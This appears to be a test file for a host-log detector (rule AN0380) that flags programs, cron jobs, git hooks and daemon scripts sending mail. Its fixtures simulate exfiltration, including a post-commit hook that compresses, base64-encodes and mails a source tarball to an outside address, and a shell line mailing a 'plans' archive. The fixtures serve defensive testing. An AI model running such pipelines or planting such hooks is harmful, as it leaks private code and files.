import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Process } from '../an0656-phishing-attachment-executed/audit-records.test-support.ts';
import { HOUR, HostLog, MINUTE } from '../an0656-phishing-attachment-executed/host-log.test-support.ts';
import {
  atMostAt,
  factorsOf,
  firesAt,
  scanLog,
  storyOf,
} from '../an0656-phishing-attachment-executed/stories.test-support.ts';

const TO = 'e@mail.example.net';
const OUT = '203.0.113.66';

/** One process of a crontab that opens a connection to the MTA of the host for each message. */
function loop(messages: number, size: number): HostLog {
  const log = new HostLog();
  log.deliver();
  log.wait(MINUTE);
  const python = log.cron('dev', 'python3 .l/a.py').run('/usr/bin/python3 .l/a.py').read('/home/dev/.l/a.py');
  for (let i = 0; i < messages; i++) {
    python.connect('127.0.0.1', 25);
    log.submitted('dev', TO, size, 'smtpd');
    log.wait(2000);
  }
  return log;
}

test('each connection of one program is a message more: the sum counts', async () => {
  const alert = firesAt(await scanLog(loop(30, 25_000)), 'AN0380', 'high');
  assert.ok(alert.story.includes(`sent 30 messages to ${TO} with a.py: 30 confirmed`), alert.story);
  for (const name of ['many messages to one recipient', 'large in sum', 'speaks SMTP itself, to a server of this host'])
    assert.ok(factorsOf(alert).includes(name), factorsOf(alert).join('; '));
});

test('addresses of one server that are tried in a row, and a server that is tried again, are one message', async () => {
  const log = new HostLog();
  log.deliver();
  const python = log.cron('dev', 'x').run('/usr/bin/python3 .l/a.py').read('/home/dev/.l/a.py');
  python.connect(OUT, 587);
  log.wait(20);
  python.connect(OUT, 587);
  const alert = storyOf(await scanLog(log), 'AN0380');
  assert.ok(alert.story.includes('sent 1 message'), alert.story);
});

/** What a job of one process that connects is told as: its steps, and what of the story is said of its messages. */
async function connecting(act: (python: Process, log: HostLog) => void) {
  const log = new HostLog();
  log.deliver();
  const python = log.cron('dev', 'x').run('/usr/bin/python3 .l/a.py').read('/home/dev/.l/a.py');
  act(python, log);
  const alert = storyOf(await scanLog(log), 'AN0380');
  const steps = alert.steps.filter(step => step.kind === 'network.connected');
  return { alert, said: / sent (\d+ messages?) /.exec(alert.story)?.[1], connects: steps.map(step => step.summary) };
}
const CONNECTS = `/home/dev/.l/a.py connects to ${OUT}:587`;
const TRIES = `/home/dev/.l/a.py tries to connect to ${OUT}:587`;
const REFUSED = -111;

test('sooner than a tenth of a second is the same message, later another', async () => {
  const after = (ms: number) =>
    connecting((python, log) => {
      python.connect(OUT, 587);
      // A record takes four.
      log.wait(ms - 4);
      python.connect(OUT, 587);
    });
  assert.deepEqual((await after(99)).said, '1 message');
  assert.deepEqual((await after(100)).said, '2 messages');
});

test('each message is shown by its own record: the start of the program, then each connection', async () => {
  const { alert } = await connecting((python, log) => {
    for (let i = 0; i < 3; i++) {
      python.connect(OUT, 587);
      log.wait(2000);
    }
  });
  const sends = alert.steps.filter(step => step.summary.includes('sends:')).map(step => step.raw.join('\n'));
  assert.equal(sends.length, 3);
  assert.match(sends[0] ?? '', /type=EXECVE/);
  for (const raw of sends.slice(1)) assert.match(raw, /type=SOCKADDR/);
  assert.equal(new Set(sends).size, 3);
});

test('a helper that goes where its program went tells of no further message, also later', async () => {
  const { said, connects } = await connecting((python, log) => {
    python.connect(OUT, 587);
    log.wait(2000);
    python.run('/usr/bin/openssl s_client').connect(OUT, 587);
  });
  assert.deepEqual([said, connects], ['1 message', [CONNECTS]]);
});

test('a server that is tried until it answers gets one message, and what is sent after that is another', async () => {
  const trying = (...answers: readonly number[]) =>
    connecting((python, log) => {
      for (const answer of answers) {
        python.connect(OUT, 587, answer);
        log.wait(2000);
      }
    });
  const never = await trying(REFUSED, REFUSED, REFUSED);
  assert.deepEqual([never.said, never.connects], ['1 message', [TRIES]]);
  const late = await trying(REFUSED, REFUSED, 0);
  assert.deepEqual([late.said, late.connects], ['1 message', [TRIES, CONNECTS]]);
  assert.ok(late.alert.story.endsWith('1 attempted, outcome unknown.'), late.alert.story);
  assert.ok(never.alert.story.endsWith('1 failed.'), never.alert.story);
  assert.equal((await trying(REFUSED, 0, 0, 0)).said, '3 messages', 'a first refusal hides none of the others');
});

test('a monitor that says hello to the MTA every hour is what it was', async () => {
  const log = new HostLog();
  log.deliver();
  const monitor = log.service('/usr/sbin/smtp-monitor', 'ops');
  for (let i = 0; i < 20; i++) {
    monitor.connect('127.0.0.1', 25);
    log.wait(HOUR);
  }
  atMostAt(await scanLog(log), 'informational');
});

/** A commit, and the hook that git starts for it. */
function commit(to: string, packed: boolean): HostLog {
  const log = new HostLog();
  log.deliver();
  const hook = log.shell('dev').run('/usr/bin/git commit -qm work').run('/bin/sh .git/hooks/post-commit');
  if (packed) hook.pipeline('/usr/bin/xz -c src.tar', '/usr/bin/base64', `/usr/sbin/sendmail ${to}`);
  else hook.run(`/usr/bin/mail -s commit ${to}`).run('/usr/sbin/sendmail -i');
  log.submitted('dev', to, packed ? 90_000 : 900);
  return log;
}

test('a hook of version control packs something and mails it outside', async () => {
  const alert = firesAt(await scanLog(commit(TO, true)), 'AN0380', 'medium');
  assert.ok(factorsOf(alert).includes('started by a hook, not by the person'));
});

test('a hook of version control tells the team of a commit', async () => {
  atMostAt(await scanLog(commit('team@example.org', false)), 'informational');
});

/** A daemon that is a script tells people of each failed check, by a line for the shell; no mail log is at hand. */
function alarms(script: string): HostLog {
  const log = new HostLog();
  const daemon = log.service(`/usr/bin/perl ${script}`, 'ops');
  for (let i = 0; i < 30; i++) {
    const shell = daemon.run(['/bin/sh', '-c', `printf x | mail -s 'svc${i} is critical' ops@example.org`]);
    shell.run(`/usr/bin/mail -s critical ops@example.org`);
    log.wait(1000);
  }
  return log;
}

test('what a script hands to a shell is decided by the script, what cron or a daemon hands to one by whoever wrote the line', async () => {
  const isUsers = async (by: (log: HostLog) => Process): Promise<boolean> => {
    const log = new HostLog();
    log.deliver();
    const shell = by(log).run(['/bin/sh', '-c', `tar c plans | mail -a plans.zip ${TO}`]);
    shell.pipeline('/bin/tar c plans', `/usr/bin/mail -a plans.zip ${TO}`);
    log.submitted('ops', TO, 900_000);
    return factorsOf(storyOf(await scanLog(log), 'AN0380')).includes(
      "job of no package: a command line or a user's script",
    );
  };
  assert.equal(await isUsers(log => log.service('/usr/bin/perl /usr/sbin/monitord', 'ops')), false);
  assert.equal(await isUsers(log => log.service('/usr/bin/perl /home/ops/monitord', 'ops')), true);
  assert.equal(await isUsers(log => log.service('/usr/sbin/daemon', 'ops')), true);
});

test("an installed script that calls mail through system(3) is the administrator's job", async () => {
  atMostAt(await scanLog(alarms('/usr/sbin/monitord'), { mail: false }), 'informational');
});

test("a script in a home that does so is its user's, and no log tells whether the recipient is inside", async () => {
  const alert = firesAt(await scanLog(alarms('/home/ops/.cache/monitord'), { mail: false }), 'AN0380', 'medium');
  assert.ok(factorsOf(alert).includes('recipient whom nothing shows to be inside'));
  assert.ok(!factorsOf(alert).includes('recipient outside'));
});
